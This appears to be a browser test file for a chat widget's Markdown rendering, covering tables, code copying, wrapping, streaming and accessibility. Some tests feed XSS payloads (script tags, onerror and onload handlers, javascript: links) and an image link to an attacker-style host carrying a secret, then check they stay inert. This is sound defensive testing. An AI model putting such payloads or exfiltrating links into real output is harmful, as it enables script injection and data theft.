import { expect } from '@open-wc/testing';
import { mount, unmountAll, until, type Chat } from '../support/chat/chat-fixture.ts';
import { cannedService, serveHistory, serveNoHistory } from '../support/chat/canned-history.ts';
import { click, press } from '../support/browser/page.ts';
import { scriptAnswer, wait } from '../support/browser/script-answer.ts';
import { modelService } from '../support/browser/service-under-test.ts';

async function openChat(): Promise<Chat> {
  const chat = mount({
    'base-url': modelService.url,
    'assistant-id': modelService.assistantThatShows('no-greeting'),
  });
  await chat.open();
  return chat;
}

/** Returns the element with the answer when it is complete. */
async function answer(markdown: string): Promise<HTMLElement> {
  const chat = await openChat();
  const { question } = await scriptAnswer({ chunks: [markdown] });
  await chat.ask(question);
  await chat.answered(1);
  await until(() => chat.find('.markdown') !== null, 'the answer to be rendered as Markdown');
  return chat.find('.markdown') as HTMLElement;
}

function count(rendered: Element, selector: string): number {
  return rendered.querySelectorAll(selector).length;
}

/** Scrolls the focused element by keyboard, and back. */
async function scrollByKey(scroller: HTMLElement): Promise<void> {
  expect(scroller.scrollWidth, 'there is something to scroll').to.be.above(scroller.clientWidth);
  scroller.focus();
  await press('ArrowRight');
  await until(() => scroller.scrollLeft > 0, 'it to scroll to the right');
  for (let more = 0; more < 8; more++) await press('ArrowLeft');
  await until(() => scroller.scrollLeft === 0, 'it to scroll back');
  const { activeElement } = scroller.getRootNode() as ShadowRoot;
  expect(activeElement === scroller, 'no message is walked to').to.be.true;
}

describe('an answer in Markdown', () => {
  afterEach(async () => {
    Reflect.deleteProperty(navigator, 'clipboard');
    serveNoHistory();
    await unmountAll();
  });

  it('has headings, emphasis, lists, quotes, rules and breaks', async () => {
    const rendered = await answer(
      '# One\n## Two\n\nSome **bold**, *italic*, ~~gone~~ and `code`.\nNext line.\n\n- a\n- b\n  1. c\n\n3. three\n4. four\n\n> quote\n\n---\n\n- [x] done\n- [ ] open',
    );
    const found = [
      'h3',
      'h4',
      'strong',
      'em',
      'del',
      'p > code',
      'br',
      'ul',
      'ol',
      'ul ol',
      'blockquote',
      'hr',
    ];
    for (const selector of found) expect(count(rendered, selector), selector).to.be.at.least(1);
    expect(rendered.querySelector<HTMLOListElement>('ol[start="3"] > li')?.innerText).to.equal('three');
    const boxes = [...rendered.querySelectorAll<HTMLInputElement>('input')].map(({ checked, disabled }) => [
      checked,
      disabled,
    ]);
    expect(boxes).to.deep.equal([
      [true, true],
      [false, true],
    ]);
    expect(rendered.innerText).not.to.match(/\*\*|~~|\[x\]/);
  });

  it('keeps the line breaks of HTML', async () => {
    const rendered = await answer('**Code:**\n\n<div>\none\ntwo\n</div>');
    expect(rendered.innerText.trim()).to.match(/\n<div>\none\ntwo\n<\/div>$/);
  });

  it('keeps long numbers of a list within the message', async () => {
    const rendered = await answer('2024. Founded\n\n---\n\n0. Zero');
    const [years, numbers] = [...rendered.querySelectorAll('ol')];
    const number = document.createElement('span');
    number.append('2024.');
    years?.querySelector('li')?.prepend(number);
    const message = rendered.closest('[part~="message"]')?.getBoundingClientRect().left ?? NaN;
    expect((years?.firstElementChild?.getBoundingClientRect().left ?? 0) - message).to.be.above(
      number.offsetWidth + 8,
    );
    expect(numbers && [numbers.start, getComputedStyle(numbers).paddingInlineStart]).to.deep.equal([
      0,
      '22px',
    ]);
  });

  it('scrolls wide tables within the message', async () => {
    const wide = Array.from({ length: 12 }, (_, index) => `A long column ${index}`);
    const rendered = await answer(`| ${wide.join(' | ')} |\n|${':-:|'.repeat(12)}\n| ${wide.join(' | ')} |`);
    expect([count(rendered, 'thead th'), count(rendered, 'tbody td')]).to.deep.equal([12, 12]);
    const table = rendered.querySelector('.table') as HTMLElement;
    expect(table.scrollWidth).to.be.above(table.clientWidth);
    const log = rendered.closest('[role="log"]') as HTMLElement;
    expect(log.scrollWidth).to.equal(log.clientWidth);
    expect([table.role, table.ariaLabel]).to.deep.equal(['region', 'Table']);
    await scrollByKey(table);
  });

  it('breaks only long cells of a table, and uses the whole width for it', async () => {
    const comment = 'Our best-selling model since 2009';
    const rendered = await answer(
      `| Order | Date | Status | Total | Comment |\n|-|-|-|--:|-|\n| NK-2026-001734 | 12 Oct 2026 | On its way | 129.90 € | ${comment} |`,
    );
    const linesOf = (cell: Element): number => {
      const range = new Range();
      range.selectNodeContents(cell);
      return new Set([...range.getClientRects()].map(({ top }) => top)).size;
    };
    const cells = [...rendered.querySelectorAll('th, td')];
    expect(cells.filter((cell) => linesOf(cell) > 1).map((cell) => cell.textContent)).to.deep.equal([
      comment,
    ]);
    const long = cells.at(-1) as HTMLElement;
    expect(
      parseFloat(getComputedStyle(long).width) / parseFloat(getComputedStyle(long).fontSize),
    ).to.be.at.least(7.9);
    const message = rendered.closest('article') as HTMLElement;
    const log = rendered.closest('[role="log"]') as HTMLElement;
    expect(log.clientWidth - message.offsetWidth).to.equal(32);
    expect(log.scrollWidth).to.equal(log.clientWidth);
  });

  it('scrolls long lines of code within the message', async () => {
    const rendered = await answer(`\`\`\`sh\n${'npm install '.repeat(30)}\n\`\`\``);
    await scrollByKey(rendered.querySelector('pre') as HTMLElement);
    const log = rendered.closest('[role="log"]') as HTMLElement;
    expect(log.scrollWidth).to.equal(log.clientWidth);
  });

  it('copies code exactly, with spaces, syntax and empty lines', async () => {
    const copied: string[] = [];
    const writeText = (text: string): Promise<void> => {
      copied.push(text);
      return Promise.resolve();
    };
    Object.defineProperty(navigator, 'clipboard', { configurable: true, get: () => ({ writeText }) });
    const code = '  if (a < b && c) {\n\n\treturn "**&amp;**";\n  }';
    const rendered = await answer(`Some \`inline\` code:\n\n\`\`\`js\n${code}\n\`\`\`\n\nDone.`);
    const button = rendered.querySelector('figure button') as HTMLElement;
    await click(button);
    await until(() => button.innerText === 'Copied', 'the confirmation');
    expect(copied).to.deep.equal([code]);
  });

  it('shows the language of code and a button that copies it', async () => {
    const rendered = await answer('```python\nprint("<b>hi</b>")\n```');
    const figure = rendered.querySelector('figure') as HTMLElement;
    expect(figure.querySelector('figcaption span')?.textContent).to.equal('python');
    expect(figure.querySelector('pre')?.innerText.trim()).to.equal('print("<b>hi</b>")');
    expect(figure.querySelector('button')?.innerText).to.equal('Copy');
  });

  it('never widens the panel, however long its words are', async () => {
    const rendered = await answer(
      `**${'w'.repeat(500)}** https://example.com/${'p'.repeat(500)}\n\n\`${'c'.repeat(500)}\``,
    );
    const log = rendered.closest('[role="log"]') as HTMLElement;
    expect(log.scrollWidth).to.equal(log.clientWidth);
  });

  it('is never wider than the panel, like any other message', async () => {
    const word = 'w'.repeat(400);
    const url = `https://example.com/${'p'.repeat(400)}?${'q=1&'.repeat(80)}`;
    serveHistory([
      { role: 'user', content: `${word} ${url}` },
      {
        role: 'assistant',
        content: `# ${word}\n\n- ${url}\n- [${word}](${url})\n\n> ${word}\n\n- [x] ${word}\n\n1. 1. 1. 1. ${word}`,
        function_calls: [{ name: word, arguments: {}, result: {} }],
      },
      { role: 'assistant', content: `${word} without a mark` },
      { role: 'system', content: `${word} ${url}` },
    ]);
    const chat = mount({ 'base-url': cannedService, heading: word, 'show-function-calls': '' });
    await chat.open();
    await until(() => chat.find('.markdown h3') !== null && chat.find('.used') !== null, 'all of it');
    const log = chat.part('message-log');
    const panel = chat.part('panel').getBoundingClientRect();
    expect([log.scrollWidth, panel.width]).to.deep.equal([log.clientWidth, 400]);
    for (const part of chat.findAll('[part~="message"], [part="header"] > :not(slot), .used')) {
      const { left, right } = part.getBoundingClientRect();
      expect([left >= panel.left, right <= panel.right], part.outerHTML.slice(0, 60)).to.deep.equal([
        true,
        true,
      ]);
    }
  });

  it('opens links safely, and only safe ones', async () => {
    const rendered = await answer(
      '[shop](https://example.com/a) https://example.org www.example.net [bad](javascript:alert(1)) [data](data:text/html,x) <mailto:a@example.com>',
    );
    const links = [...rendered.querySelectorAll('a')];
    expect(links.map(({ protocol }) => protocol)).to.deep.equal(['https:', 'https:', 'http:', 'mailto:']);
    for (const link of links) {
      expect(link.target).to.equal(link.protocol === 'mailto:' ? '' : '_blank');
      expect(link.rel).to.contain('noopener').and.to.contain('noreferrer');
    }
    expect(rendered.innerText).to.contain('bad').and.to.contain('data');
  });

  it('shows images as links, and loads none', async () => {
    const rendered = await answer('![A map](https://evil.example/collect?secret=1)');
    expect(count(rendered, 'img')).to.equal(0);
    expect(rendered.querySelector('a')?.innerText).to.equal('A map');
    expect(performance.getEntriesByType('resource').some(({ name }) => name.includes('evil.example'))).to.be
      .false;
  });

  it('shows markup as text', async () => {
    const attack =
      '<img src=x onerror="window.attacked=1">\n\n<script>window.attacked=1</script>\n\ntext <b onclick="x">b</b>\n\n<svg/onload=alert(1)>';
    const rendered = await answer(`**!**\n\n${attack}`);
    expect(count(rendered, 'img, script, svg, b')).to.equal(0);
    expect(rendered.innerText).to.contain('<script>').and.to.contain('onerror');
    expect('attacked' in window).to.be.false;
  });

  it('never shows unclosed markup while it grows', async () => {
    const chat = await openChat();
    const chunks = [
      'Our **opening',
      wait,
      ' hours** are [here',
      wait,
      '](https://example.com). Run `npm',
      wait,
      ' i`.',
    ];
    const script = await scriptAnswer({ chunks });
    await chat.ask(script.question);
    const text = (): string => chat.find('.markdown')?.innerText.trim() ?? '';
    await until(() => text() === 'Our opening', 'the first chunk');
    expect(chat.find('.markdown strong')?.innerText).to.equal('opening');
    await script.resume();
    await until(() => text() === 'Our opening hours are here', 'the second chunk');
    await script.resume();
    await until(() => text() === 'Our opening hours are here. Run npm', 'the third chunk');
    await script.resume();
    await chat.answered(1);
    expect(text()).to.equal('Our opening hours are here. Run npm i.');
  });

  it('is announced without Markdown syntax', async () => {
    const chat = await openChat();
    const { question } = await scriptAnswer({ chunks: ['We **open** at [nine](https://example.com).'] });
    await chat.ask(question);
    await chat.answered(1);
    await until(() => chat.announcement !== '', 'the announcement');
    expect(chat.announcement.trim()).to.equal('We open at nine.');
  });
});
